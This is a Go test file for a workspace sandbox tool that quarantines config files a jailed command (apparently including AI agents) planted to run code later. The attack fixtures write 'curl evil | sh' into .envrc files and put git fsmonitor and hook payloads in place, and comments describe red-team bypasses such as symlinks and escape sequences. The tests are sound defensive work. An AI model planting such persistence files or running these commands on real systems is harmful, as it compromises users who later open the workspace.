package sweep_test

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/landjail/landjail/internal/sweep"
	"github.com/landjail/landjail/jail"
)

const evilConfig = "[core]\n\tfsmonitor = touch /tmp/pwned\n"

// tree makes the workspace the sweep starts from: a repository at the
// root with a disabled hook, a nested one, a plain file tree.
func tree(t *testing.T) string {
	root := t.TempDir()
	for _, d := range []string{".git/hooks", "old/.git/hooks", "src/pkg", "src/svc", "x"} {
		require.NoError(t, os.MkdirAll(filepath.Join(root, d), 0o755))
	}
	files := map[string]string{
		".git/config":            "[core]\n\tbare = false\n",
		".git/HEAD":              "ref: refs/heads/main\n",
		".git/hooks/pre-commit":  "#!/bin/sh\necho disabled\n",
		"old/.git/config":        "[core]\n",
		"src/pkg/main.go":        "package main\n",
		".envrc.example":         "export A=1\n",
		"src/pkg/.vscodeish.txt": "x",
		"src/svc/.envrc":         "[core]\n",
	}
	for n, c := range files {
		require.NoError(t, os.WriteFile(filepath.Join(root, n), []byte(c), 0o644))
	}
	return root
}

// attack is what the command does between Take and Sweep.
func attack(t *testing.T, root string) {
	w := func(n, c string, mode os.FileMode) {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(root, n)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, n), []byte(c), mode))
	}
	w("src/vendor/.git/config", evilConfig, 0o644)       // git init src/vendor + fsmonitor
	w("src/vendor/.git/hooks/post-checkout", "x", 0o755) // a hook in a new repository
	w("src/vendor/.git/HEAD", "ref: refs/heads/main\n", 0o644)
	w("src/.envrc", "curl evil | sh\n", 0o644)                                        // direnv on cd
	w("src/pkg/.vscode/tasks.json", "{}", 0o644)                                      // folderOpen task
	w("src/pkg/.cargo/config.toml", "[build]\n", 0o644)                               // rustc-wrapper
	w("x/repo/config", evilConfig, 0o644)                                             // a repository directory under another name...
	w("gitfile/.git", "gitdir: ../x/repo\n", 0o644)                                   // ...selected by a gitfile
	w(".git/hooks/post-merge", "x", 0o755)                                            // a new hook in an existing directory
	require.NoError(t, os.Chmod(filepath.Join(root, ".git/hooks/pre-commit"), 0o755)) // enable a disabled hook
	// Replace a nested config by moving its directory away (the mount
	// or carve-out stays on the old inode) and writing a new one.
	require.NoError(t, os.Rename(filepath.Join(root, "old/.git"), filepath.Join(root, "old/.git-moved")))
	w("old/.git/config", evilConfig, 0o644)
	// An existing nested file changed in place (same inode): nested
	// configuration is not carved out for children, the sweep restores it.
	f, err := os.OpenFile(filepath.Join(root, "src/svc/.envrc"), os.O_WRONLY|os.O_APPEND, 0)
	require.NoError(t, err)
	_, err = f.WriteString("curl evil | sh\n")
	require.NoError(t, err)
	require.NoError(t, f.Close())
	require.NoError(t, os.Symlink("../x/repo", filepath.Join(root, "lnk.git")))
	require.NoError(t, os.MkdirAll(filepath.Join(root, "sym"), 0o755))
	require.NoError(t, os.Symlink("../x/repo", filepath.Join(root, "sym/.git")))
}

// TestSweep: what the command created or changed is renamed out of the
// way, originals are restored, and nothing else is touched. Control: the
// same attack with a policy that does not protect agent configuration
// is left in place (Take returns nil).
func TestSweep(t *testing.T) {
	root := tree(t)
	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
	require.NoError(t, err)
	defer ws.Close()
	snap, err := sweep.Take(ws, 0)
	require.NoError(t, err)
	defer snap.Close()
	attack(t, root)
	q, err := snap.Sweep()
	require.NoError(t, err)

	got := map[string]sweep.Quarantined{}
	for _, e := range q {
		got[e.Path] = e
		t.Log(e)
	}
	want := map[string]string{
		"src/vendor/.git/config":     "created",
		"src/vendor/.git/hooks":      "created",
		"src/.envrc":                 "created",
		"src/pkg/.vscode":            "created",
		"src/pkg/.cargo/config.toml": "created",
		"gitfile/.git":               "created",
		"sym/.git":                   "created",
		".git/hooks/post-merge":      "created",
		".git/hooks/pre-commit":      "mode",
		"old/.git/config":            "replaced",
		"src/svc/.envrc":             "changed",
		// A new link that leaves the workspace, dangling or not (red
		// team N2: a later run could make its target).
		"lnk.git": "created",
	}
	for p, reason := range want {
		if assert.Contains(t, got, p) {
			assert.Equal(t, reason, got[p].Reason, p)
			assert.Empty(t, got[p].Error, p)
		}
		if reason == "mode" {
			continue
		}
		if reason == "replaced" || reason == "changed" {
			b, err := os.ReadFile(filepath.Join(root, p))
			require.NoError(t, err, "restored")
			assert.Equal(t, "[core]\n", string(b), "original content restored")
			assert.True(t, got[p].Restored)
		} else {
			_, err := os.Lstat(filepath.Join(root, p))
			assert.ErrorIs(t, err, os.ErrNotExist, "%s moved away", p)
		}
		if assert.True(t, strings.HasPrefix(got[p].MovedTo, p+sweep.Suffix), got[p].MovedTo) {
			_, err := os.Lstat(filepath.Join(root, got[p].MovedTo))
			assert.NoError(t, err, "kept for inspection")
		}
	}
	assert.Len(t, q, len(want), "nothing else")
	fi, err := os.Stat(filepath.Join(root, ".git/hooks/pre-commit"))
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o644), fi.Mode().Perm(), "mode set back")
	for _, p := range []string{".git/config", ".git/HEAD", "old/.git-moved/config", "src/vendor/.git/HEAD", "x/repo/config", "src/pkg/main.go"} {
		_, err := os.Lstat(filepath.Join(root, p))
		assert.NoError(t, err, "left alone: %s", p)
	}

	// A second sweep finds nothing: the quarantined names are inert.
	q, err = snap.Sweep()
	require.NoError(t, err)
	assert.Empty(t, q)

	// Control: without the protection the same attack stays.
	root = tree(t)
	ctl, err := jail.New(root)
	require.NoError(t, err)
	defer ctl.Close()
	none, err := sweep.Take(ctl, 0)
	require.NoError(t, err)
	assert.Nil(t, none)
	attack(t, root)
	q, err = none.Sweep()
	require.NoError(t, err)
	assert.Empty(t, q)
	_, err = os.Stat(filepath.Join(root, "src/vendor/.git/config"))
	assert.NoError(t, err)
}

// TestSweepNoFollow: a symlinked directory is never walked into or acted
// through: what is behind it (outside the workspace here) is left alone.
// A link the command created, or retargeted, to a directory outside the
// workspace is itself renamed away (red team F1: `vendor -> $HOME/x`, a
// repository with core.fsmonitor built in the command's private HOME,
// survived the sweep, and the user's `cd vendor; git status` ran it);
// one that was there before is left (the control).
func TestSweepNoFollow(t *testing.T) {
	root, outside, other := t.TempDir(), t.TempDir(), t.TempDir()
	require.NoError(t, os.Symlink(outside, filepath.Join(root, "before")))
	require.NoError(t, os.Symlink(outside, filepath.Join(root, "lib")))
	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
	require.NoError(t, err)
	defer ws.Close()
	snap, err := sweep.Take(ws, 0)
	require.NoError(t, err)
	defer snap.Close()
	require.NoError(t, os.MkdirAll(filepath.Join(outside, ".git"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(outside, ".git/config"), []byte("user's own"), 0o644))
	require.NoError(t, os.Symlink(outside, filepath.Join(root, "out")))
	require.NoError(t, os.Remove(filepath.Join(root, "lib")))
	require.NoError(t, os.Symlink(other, filepath.Join(root, "lib")))
	require.NoError(t, os.Symlink("src", filepath.Join(root, "inside"))) // inside: the walk sees there
	q, err := snap.Sweep()
	require.NoError(t, err)
	var got []string
	for _, e := range q {
		got = append(got, e.Path+" "+e.Reason)
	}
	assert.Equal(t, []string{"lib replaced", "out created"}, got)
	_, err = os.Lstat(filepath.Join(root, "out"))
	assert.ErrorIs(t, err, os.ErrNotExist, "the new link is renamed away")
	_, err = os.Lstat(filepath.Join(root, "before"))
	assert.NoError(t, err, "control: a link from before the command stays")
	_, err = os.Lstat(filepath.Join(root, "inside"))
	assert.NoError(t, err, "a link inside the workspace stays")
	_, err = os.Stat(filepath.Join(outside, ".git/config"))
	assert.NoError(t, err, "nothing behind a link is touched")
}

// TestSweepLongPath: a path longer than PATH_MAX (ENAMETOOLONG for the
// walk) made the whole sweep give up, and a planted .envrc stayed (red
// team F2). Now it is noted, the sweep fails loudly, and what it saw is
// still neutralised.
func TestSweepLongPath(t *testing.T) {
	root := t.TempDir()
	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
	require.NoError(t, err)
	defer ws.Close()
	snap, err := sweep.Take(ws, 0)
	require.NoError(t, err)
	defer snap.Close()
	d, err := os.Open(root)
	require.NoError(t, err)
	fd := int(d.Fd())
	name := strings.Repeat("d", 250)
	for range 20 { // 20 × 251 bytes: past PATH_MAX (4096)
		require.NoError(t, unix.Mkdirat(fd, name, 0o755))
		nfd, err := unix.Openat(fd, name, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		require.NoError(t, err)
		if fd != int(d.Fd()) {
			unix.Close(fd)
		}
		fd = nfd
	}
	unix.Close(fd)
	d.Close()
	require.NoError(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl evil | sh\n"), 0o644))
	q, err := snap.Sweep()
	assert.ErrorIs(t, err, sweep.ErrUnlistable)
	require.NotEmpty(t, q)
	assert.Equal(t, ".envrc", q[0].Path)
	_, err = os.Lstat(filepath.Join(root, ".envrc"))
	assert.ErrorIs(t, err, os.ErrNotExist, ".envrc renamed away although the walk met a path it could not open")
}

// TestSweepQuotesNames: names the command chose are printed quoted when
// they carry control characters (red team F8: an escape sequence in a
// quarantined name could erase landjail's own warning line).
func TestSweepQuotesNames(t *testing.T) {
	q := sweep.Quarantined{Path: "a\x1b[2K\r/.envrc", MovedTo: "x", Reason: "created"}
	assert.NotContains(t, q.String(), "\x1b")
	assert.Contains(t, q.String(), `\x1b`)
}

// TestSweepWalkLimit: a tree larger than the limit is an error, never a
// partial sweep reported as complete.
func TestSweepWalkLimit(t *testing.T) {
	root := tree(t)
	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
	require.NoError(t, err)
	defer ws.Close()
	_, err = sweep.Take(ws, 3)
	assert.ErrorIs(t, err, sweep.ErrWalkLimit)

	// The command grows the tree past the limit, and makes a nested
	// repository among its entries: the sweep after it walks
	// SweepLimitFactor times as far, and renames it (red team round 23,
	// R23a-10: the sweep stopped at the limit and the repository's
	// core.fsmonitor stayed for the user's git status; red with the
	// factor 1).
	snap, err := sweep.Take(ws, 20)
	require.NoError(t, err)
	defer snap.Close()
	for i := range 30 {
		require.NoError(t, os.WriteFile(filepath.Join(root, "x", strconv.Itoa(i)), nil, 0o644))
	}
	require.NoError(t, os.MkdirAll(filepath.Join(root, "x/zz/.git"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "x/zz/.git/config"), []byte(evilConfig), 0o644))
	q, err := snap.Sweep()
	require.NoError(t, err)
	var swept []string
	for _, e := range q {
		swept = append(swept, e.Path)
	}
	assert.Contains(t, swept, "x/zz/.git/config", "the nested repository past the limit renamed")
	assert.NoFileExists(t, filepath.Join(root, "x/zz/.git/config"))

	// Past SweepLimitFactor times the limit the sweep fails, and still
	// renames what it met before.
	require.NoError(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("x"), 0o644))
	for i := range 20 * sweep.SweepLimitFactor {
		require.NoError(t, os.WriteFile(filepath.Join(root, "x", "m"+strconv.Itoa(i)), nil, 0o644))
	}
	q, err = snap.Sweep()
	assert.ErrorIs(t, err, sweep.ErrWalkLimit)
	t.Log(q)
}

// TestSweepAcrossSweeps: one Snapshot swept after several calls, as
// landjail-mcp does. Red team round 2: what a later call planted inside
// a directory an earlier sweep had quarantined was never examined (N9),
// a dangling link out of the workspace was kept for a later run to fill
// (N2), and a quarantined link was quarantined again at every sweep until
// its name was too long (N6).
func TestSweepAcrossSweeps(t *testing.T) {
	root := t.TempDir()
	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
	require.NoError(t, err)
	defer ws.Close()
	snap, err := sweep.Take(ws, 0)
	require.NoError(t, err)
	defer snap.Close()

	require.NoError(t, os.MkdirAll(filepath.Join(root, ".claude"), 0o755))
	q, err := snap.Sweep()
	require.NoError(t, err)
	require.Len(t, q, 1)
	quarantined := q[0].MovedTo

	require.NoError(t, os.MkdirAll(filepath.Join(root, quarantined, "r/.git"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, quarantined, "r/.git/config"), []byte("[core]\n\tfsmonitor = evil\n"), 0o644))
	require.NoError(t, os.Symlink(filepath.Join(quarantined, "r"), filepath.Join(root, "vendor")))
	require.NoError(t, os.Symlink(filepath.Join(t.TempDir(), "later/vendor"), filepath.Join(root, "dangling")))
	q, err = snap.Sweep()
	require.NoError(t, err)
	var got []string
	for _, e := range q {
		got = append(got, e.Path)
	}
	assert.Contains(t, got, filepath.Join(quarantined, "r/.git/config"), "examined inside the quarantined directory")
	assert.Contains(t, got, "dangling", "a new dangling link out of the workspace is renamed away")

	q, err = snap.Sweep()
	require.NoError(t, err)
	assert.Empty(t, q, "nothing is quarantined twice")
}

// TestSweepLinkIntoProtected: a new link with an ordinary name that
// leads to a protected entry (a hooks directory, a git configuration, a
// hook not made yet) is renamed away, as one out of the workspace is
// (red team round 26, R26c-7: web/dist -> ../.git/hooks stayed, and the
// user's `cp -p public/pre-commit web/dist/` made a hook). Controls: a
// new link to an ordinary file or directory stays, and so does a link
// that was there at Take.
func TestSweepLinkIntoProtected(t *testing.T) {
	root := tree(t)
	require.NoError(t, os.MkdirAll(filepath.Join(root, "web"), 0o755))
	require.NoError(t, os.Symlink("../.git/hooks", filepath.Join(root, "web/old")))
	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
	require.NoError(t, err)
	defer ws.Close()
	snap, err := sweep.Take(ws, 0)
	require.NoError(t, err)
	defer snap.Close()
	for name, target := range map[string]string{
		"web/dist":     "../.git/hooks",
		"web/gc.ini":   "../.git/config",
		"web/pc":       "../.git/hooks/pre-push", // dangling: made by a later cp
		"web/vs":       "../old/.git/config",
		"web/pkg":      "../src/pkg",
		"web/main.go":  "../src/pkg/main.go",
		"web/later.go": "../src/pkg/later.go",
	} {
		require.NoError(t, os.Symlink(target, filepath.Join(root, name)))
	}
	q, err := snap.Sweep()
	require.NoError(t, err)
	got := map[string]string{}
	for _, e := range q {
		got[e.Path] = e.Reason
	}
	for _, p := range []string{"web/dist", "web/gc.ini", "web/pc", "web/vs"} {
		assert.Equal(t, "created", got[p], p)
		_, err := os.Lstat(filepath.Join(root, p))
		assert.ErrorIs(t, err, os.ErrNotExist, p)
	}
	for _, p := range []string{"web/pkg", "web/main.go", "web/later.go", "web/old"} {
		assert.NotContains(t, got, p, "control")
		_, err := os.Lstat(filepath.Join(root, p))
		assert.NoError(t, err, p)
	}
}

// TestQuarantinedJSONBytes: a quarantined name that is not valid UTF-8
// is reported with its bytes (path_b64, moved_to_b64) besides the
// U+FFFD form, so two such names stay apart and a script finds the file
// (red team round 26, R26c-9). Control: a valid name has no _b64 field.
func TestQuarantinedJSONBytes(t *testing.T) {
	for _, tc := range []struct{ path, moved string }{{"a\xffb/.vscode", "a\xffb/.vscode.q"}, {"a\xfeb/.vscode", ""}, {"ok/.vscode", "ok/.vscode.q"}} {
		b, err := json.Marshal(sweep.Quarantined{Path: tc.path, MovedTo: tc.moved, Reason: "created"})
		require.NoError(t, err)
		var got map[string]any
		require.NoError(t, json.Unmarshal(b, &got))
		assert.Equal(t, "created", got["reason"])
		for field, name := range map[string]string{"path_b64": tc.path, "moved_to_b64": tc.moved} {
			if name == "" || utf8.ValidString(name) {
				assert.NotContains(t, got, field, "control: %q", name)
				continue
			}
			require.Contains(t, got, field, "%q", name)
			raw, err := base64.StdEncoding.DecodeString(got[field].(string))
			require.NoError(t, err)
			assert.Equal(t, name, string(raw))
		}
	}
}

// TestSweepNestedHooksPathRoot: a nested repository whose core.hooksPath
// names the workspace root ("..") has the hooks git runs from there
// protected by name: one the command makes at the top is renamed away
// (red team round 27, R27d-4: the user's commit in the nested
// repository ran it). Control: an ordinary new file at the top stays.
func TestSweepNestedHooksPathRoot(t *testing.T) {
	root := tree(t)
	require.NoError(t, os.MkdirAll(filepath.Join(root, "sub/.git"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "sub/.git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(root, "sub/.git/config"), []byte("[core]\n\thooksPath = ..\n"), 0o644))
	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
	require.NoError(t, err)
	defer ws.Close()
	snap, err := sweep.Take(ws, 0)
	require.NoError(t, err)
	defer snap.Close()
	require.NoError(t, os.WriteFile(filepath.Join(root, "pre-commit"), []byte("#!/bin/sh\ntouch /tmp/pwned\n"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "notes"), []byte("x"), 0o644))
	q, err := snap.Sweep()
	require.NoError(t, err)
	got := map[string]string{}
	for _, e := range q {
		got[e.Path] = e.Reason
	}
	assert.Equal(t, "created", got["pre-commit"])
	assert.NotContains(t, got, "notes", "control")
}
